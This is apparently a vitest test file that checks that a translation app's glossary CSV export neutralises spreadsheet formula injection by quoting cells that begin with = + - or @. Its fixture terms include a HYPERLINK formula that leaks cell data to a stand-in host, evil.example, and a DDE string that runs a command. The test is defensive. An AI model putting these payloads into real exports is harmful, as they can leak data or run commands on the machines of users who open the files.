// The glossary download cannot carry a formula a spreadsheet would run (issue 12, finding 8).

import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestServer, type TestServer } from '../support/test-server.ts';
import { tokenFor } from '../transfer/transfer-support.ts';

let server: TestServer;
let lin: string;
const TERMS = [
  { zh: '链接', en: '=HYPERLINK("http://evil.example/?leak="&A1,"click")' }, { zh: '命令', en: "+cmd|'/C calc'!A0" },
  { zh: '求和', en: '@SUM(1)' }, { zh: '减号', en: '-2+3' },
];

const call = async (method: string, url: string, body?: unknown) => {
  const res = await fetch(server.url + url, {
    method, headers: { authorization: `Bearer ${lin}`, 'content-type': 'application/json' }, body: body === undefined ? undefined : JSON.stringify(body),
  });
  return { status: res.status, text: await res.text() };
};

beforeAll(async () => {
  server = await startTestServer();
  lin = await tokenFor(server.store, 'lin', 'translator');
  for (const term of TERMS) expect((await call('POST', '/api/glossary', term)).status).toBe(201);
});
afterAll(() => server.close());

describe('/glossary.csv', () => {
  it('when terms start with = + - @ then every such cell of the download starts with a single quote', async () => {
    const csv = (await call('GET', '/glossary.csv')).text;
    const cells = csv.replace(/^\uFEFF/, '').split('\r\n').slice(1, -1).map((line) => line.slice(line.indexOf(',') + 1).replace(/^"/, ''));
    expect(cells).toHaveLength(TERMS.length);
    for (const cell of cells) expect(cell).toMatch(/^'[=+\-@]/);
  });

  it('when the download is imported again then the terms come back as they were, quote removed', async () => {
    const csv = (await call('GET', '/glossary.csv')).text;
    server.db.prepare('DELETE FROM glossary_terms').run();
    expect((await call('POST', '/api/glossary/import', { csv })).status).toBe(201);
    const terms = JSON.parse((await call('GET', '/api/glossary')).text) as { zh: string; en: string }[];
    expect(terms.map(({ zh, en }) => ({ zh, en })).sort((a, b) => a.zh.localeCompare(b.zh))).toEqual([...TERMS].sort((a, b) => a.zh.localeCompare(b.zh)));
  });
});
